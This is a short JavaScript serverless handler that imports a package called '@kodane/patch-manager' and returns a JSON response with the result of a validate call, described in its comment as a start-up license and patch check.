// A function that applies license and patch checks through a helper
// package at start-up.
const pm = require('@kodane/patch-manager');

exports.handler = async () => ({ statusCode: 200, body: JSON.stringify({ ok: pm.validate('depbox') }) });
